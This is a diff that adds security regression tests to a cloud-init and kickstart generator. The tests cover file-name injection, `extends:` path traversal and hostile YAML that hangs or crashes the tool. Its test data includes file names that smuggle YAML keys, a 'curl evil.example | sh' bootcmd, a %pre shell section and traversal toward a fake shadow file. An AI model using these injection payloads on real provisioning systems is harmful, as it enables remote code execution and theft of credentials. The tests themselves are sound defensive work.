@@ -5,6 +5,8 @@ A second local user is simulated by chown'ing files to an unused uid (the tests 
 
 import os
 import stat
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -188,3 +190,129 @@ def test_good_secrets_files_still_load(tmp_path):
     path = planted_secrets(directory)
     assert secrets.load(path).token == yaml.safe_load(path.read_text())["token"]
     assert gen_ks(profile_tree(tmp_path / "p"), directory).returncode == 0
+
+
+# --- finding 3: a profile's file name in the artifacts -------------------------------------------------------
+
+HOSTILE_NAMES = [
+    'w\nssh_pwauth: true\nbootcmd: ["curl evil.example | sh"]\n#.yaml',
+    "w\rssh_pwauth: true\r#.yaml",
+    "w\x85ssh_pwauth: true\x85#.yaml",             # NEL: a line break to YAML
+    "w\u2028ssh_pwauth: true\u2028#.yaml",
+    "w\n%pre\ntouch \\x2ftmp\\x2fpwned\n%end\n#.yaml",  # \x2f: a `/` once YAML or a shell unescapes it
+    'w\n"\\x2fetc": 1\n#.yaml',
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+def test_a_file_name_cannot_add_keys_commands_or_sections(tmp_path, name):
+    """Before: the user-data's header comment carried the raw file name, so a newline in it added top-level keys."""
+    from generator import verify
+    from generator.cloudinit import cloud_config, render_user_data
+    from generator.kickstart import render_kickstart
+    from generator.pipeline import node_from_profile
+    from generator.render import SCRIPT_PATH, node_files
+
+    profile_tree(tmp_path)
+    profile = tmp_path / name
+    profile.write_text((tmp_path / "worker.yaml").read_text())
+    node = node_from_profile(profile, tmp_path / "secrets")
+    user_data = render_user_data(node)
+    assert yaml.safe_load(user_data) == cloud_config(node)
+    assert list(yaml.safe_load(user_data)) == list(cloud_config(node))
+    ks = render_kickstart(node)
+    parsed = verify.parse_kickstart(ks, node.os.ks_handler)
+    assert [s.type for s in parsed.handler.scripts] == [s.type for s in verify.parse_kickstart(
+        render_kickstart(node_from_profile(tmp_path / "worker.yaml", tmp_path / "secrets")), node.os.ks_handler).handler.scripts]
+    script = next(f.content for f in node_files(node) if f.path == SCRIPT_PATH)
+    for text in (user_data, ks, script):
+        named = [line for line in text.splitlines() if "w_" in line]
+        assert named and all(line.lstrip().startswith("#") for line in named), named
+        assert not [line for line in text.splitlines() if line.startswith(("ssh_pwauth", "bootcmd", '"\\x2fetc', "%pre",
+                                                                           "touch"))]
+
+
+# --- finding 6: `extends:` stays inside the profile tree -----------------------------------------------------
+
+OUTSIDE_SECRET = "root:$6$not-a-real-hash:19000:0:99999:7:::\n"
+
+
+@pytest.mark.parametrize("how", ["absolute", "dotdot", "symlink", "missing-outside", "fifo", "directory"])
+def test_extends_reads_nothing_outside_the_profile_tree(tmp_path, how):
+    """Before: `extends: /etc/shadow` printed a line of it in the error, and "not found" told what exists."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    shadow = outside / "shadow"
+    shadow.write_text(OUTSIDE_SECRET)
+    tree = tmp_path / "tree"
+    tree.mkdir()
+    ref = {"absolute": str(shadow), "dotdot": "../outside/shadow", "symlink": "link.yaml",
+           "missing-outside": "../outside/nothing", "fifo": "pipe.yaml", "directory": "sub"}[how]
+    if how == "symlink":
+        (tree / "link.yaml").symlink_to(shadow)
+    elif how == "fifo":
+        os.mkfifo(tree / "pipe.yaml")
+    elif how == "directory":
+        (tree / "sub").mkdir()
+    profile = tree / "node.yaml"
+    profile.write_text(f"extends: {ref}\nrole: worker\n")
+    result = run_gen("validate", str(profile))
+    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
+    assert f"{profile}:1: extends: " in result.stderr
+    assert "not-a-real-hash" not in result.stderr and "root:" not in result.stderr
+    if how != "fifo" and how != "directory":
+        assert "inside the profile's folder" in result.stderr or "relative path" in result.stderr, result.stderr
+    # an outside file that exists and one that does not get the same answer
+    if how == "missing-outside":
+        profile.write_text("extends: ../outside/shadow\nrole: worker\n")
+        assert run_gen("validate", str(profile)).stderr == result.stderr
+
+
+def test_extends_inside_the_tree_still_works(tmp_path):
+    profile = profile_tree(tmp_path / "p")
+    (tmp_path / "p" / "sub").mkdir()
+    (tmp_path / "p" / "sub" / "node.yaml").write_text("extends: ../worker.yaml\nhostname: w7\n")
+    assert run_gen("validate", str(profile.parent / "worker.yaml")).returncode == 0
+    # the tree is the folder of the profile named on the command line; sub/ reaching up leaves it
+    result = run_gen("validate", str(tmp_path / "p" / "sub" / "node.yaml"))
+    assert result.returncode == 2 and "inside the profile's folder" in result.stderr
+
+
+# --- finding 7: input that hangs or crashes the generator -----------------------------------------------------
+
+@pytest.mark.parametrize("text, message", [
+    ("role: " + "[" * 40_000, "nested more than 32 levels deep"),
+    ("role: " + "{a: " * 100_000, "nested more than 32 levels deep"),
+    ("role: worker\nhostname: " + "9" * 5000 + "\n", "hostname: not a valid value"),
+    ("role: worker\nhostname: 2024-13-45\n", "hostname: not a valid value"),
+])
+def test_hostile_yaml_is_a_quick_exit_2(tmp_path, text, message):
+    """Before: 40 KB of `[` took 20 s, a 5000-digit number and a date-like host name were internal errors."""
+    import time
+    profile = tmp_path / "p.yaml"
+    profile.write_text(text)
+    started = time.monotonic()
+    result = run_gen("validate", str(profile))
+    assert time.monotonic() - started < 15
+    assert result.returncode == 2 and message in result.stderr and "internal error" not in result.stderr, result.stderr
+
+
+@pytest.mark.parametrize("kind", ["fifo", "device", "huge"])
+def test_only_regular_files_of_sane_size_are_read(tmp_path, kind):
+    """Before: a FIFO in a build folder hung `gen build`; /dev/zero as a profile ate gigabytes."""
+    build_dir = tmp_path / "in"
+    build_dir.mkdir()
+    if kind == "fifo":
+        os.mkfifo(build_dir / "x.yaml")
+        target = build_dir
+    elif kind == "device":
+        target = Path("/dev/zero")
+    else:
+        (build_dir / "x.yaml").write_text("role: worker\n# " + "x" * (2 << 20) + "\n")
+        target = build_dir
+    command = ["build", str(target), "-o", str(tmp_path / "out")] if target.is_dir() else ["validate", str(target)]
+    result = subprocess.run([sys.executable, "-m", "generator", *command], capture_output=True, text=True,
+                            cwd=ROOT, timeout=60)
+    assert result.returncode == 2, result.stderr
+    assert ("not a regular file" if kind != "huge" else "larger than 1024 KiB") in result.stderr
+    assert not (tmp_path / "out").exists()
